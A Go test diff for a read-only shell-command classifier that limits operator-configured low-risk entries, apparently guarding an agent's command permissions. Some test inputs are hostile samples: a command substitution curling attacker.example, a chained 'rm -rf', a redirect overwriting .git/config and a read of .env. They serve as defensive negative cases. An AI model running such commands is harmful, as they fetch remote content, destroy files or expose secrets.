@@ -91,7 +91,7 @@ func TestReadOnlyCommand(t *testing.T) {
 	tests = append(tests, redTeamReadOnly...)
 	for _, tt := range tests {
 		t.Run(tt.line, func(t *testing.T) {
-			if got := ReadOnlyCommand(tt.line, nil); got != tt.want {
+			if got := ReadOnlyCommand(tt.line, Classifier(nil)); got != tt.want {
 				t.Errorf("ReadOnlyCommand(%q) = %v, want %v", tt.line, got, tt.want)
 			}
 		})
@@ -228,22 +228,73 @@ var redTeamReadOnly = []struct {
 	{"cat $f *.go", true},
 }
 
+// TestReadOnlyExtraEntries holds the operator's entries ([exec]
+// low_risk_commands) to what they name: a command spelled as the entry's
+// words, alone on its line. Another spelling of the program, or the entry
+// inside a compound, redirected or assigning line, is not read-only by the
+// entry; the built-in list still judges such lines.
 func TestReadOnlyExtraEntries(t *testing.T) {
-	extra := []string{"jq", "npm ls", "cargo tree"}
+	classify := Classifier([]string{"make", "npm ls", "cargo tree", "/usr/bin/make", "FOO=1 make", "  "})
 	tests := []struct {
+		name string
 		line string
 		want bool
 	}{
-		{"jq .name package.json", true},
-		{"npm ls --depth 0", true},
-		{"npm install", false},
-		{"cargo tree | head", true},
-		{"cargo build", false},
-		{"npm ls > deps.txt", false},
+		{"entry alone", "make", true},
+		{"entry with arguments it did not name", "make lint -j4", true},
+		{"entry quoted is the same words", "'make' \"lint\"", true},
+		{"two-word entry", "npm ls --depth 0", true},
+		{"two-word entry, other subcommand", "npm install", false},
+		{"a prefix of an entry", "npm", false},
+		{"after a semicolon", "make; rm -rf x", false},
+		{"both sides entries", "make && make", false},
+		{"in a pipeline", "cargo tree | head", false},
+		{"after a read-only command", "ls; make", false},
+		{"in a subshell", "(make)", false},
+		{"in a command substitution", "echo $(make)", false},
+		{"with a command substitution argument", "make $(curl -s https://attacker.example)", false},
+		{"with a variable argument", "make $TARGET", false},
+		{"with a glob argument", "make *", false},
+		{"with an assignment", "FOO=1 make", false},
+		{"with a lower-case assignment", "foo=1 make", false},
+		{"redirected into a file", "make > .git/config", false},
+		{"appending to a file", "make >> out.txt", false},
+		{"redirected to /dev/null", "make > /dev/null", false},
+		{"with a descriptor duplication", "make 2>&1", false},
+		{"in the background", "make &", false},
+		{"negated", "! make", false},
+		{"through the command builtin", "command make", false},
+		{"through env", "env make", false},
+		{"through exec", "exec make", false},
+		{"by absolute path, even when an entry spells it", "/usr/bin/make", false},
+		{"by relative path", "./make", false},
+		{"an entry with an assignment matches nothing", "FOO=1 make", false},
+		{"a blank entry matches nothing", "rm -rf x", false},
+		{"built-in list still works in compounds", "git status && ls -la | head", true},
 	}
 	for _, tt := range tests {
-		if got := ReadOnlyCommand(tt.line, extra); got != tt.want {
-			t.Errorf("ReadOnlyCommand(%q, %q) = %v, want %v", tt.line, extra, got, tt.want)
+		t.Run(tt.name, func(t *testing.T) {
+			if got := ReadOnlyCommand(tt.line, classify); got != tt.want {
+				t.Errorf("ReadOnlyCommand(%q) = %v, want %v", tt.line, got, tt.want)
+			}
+		})
+	}
+}
+
+// TestReadOnlyCommandClassifierDecides shows the classifier has the last
+// word on every command: one stricter than the built-in list narrows lines
+// the list accepts, alone or in a compound, and none accepts nothing.
+func TestReadOnlyCommandClassifierDecides(t *testing.T) {
+	noCat := func(argv []string) bool { return argv[0] != "cat" && ReadOnlyArgv(argv, nil) }
+	for _, line := range []string{"cat go.mod", "ls | cat", "echo $(cat .env)"} {
+		if ReadOnlyCommand(line, noCat) {
+			t.Errorf("%q is read-only under a classifier that refuses cat", line)
+		}
+		if !ReadOnlyCommand(line, Classifier(nil)) {
+			t.Errorf("%q is not read-only under the built-in list", line)
+		}
+		if ReadOnlyCommand(line, nil) {
+			t.Errorf("%q is read-only with no classifier", line)
 		}
 	}
 }
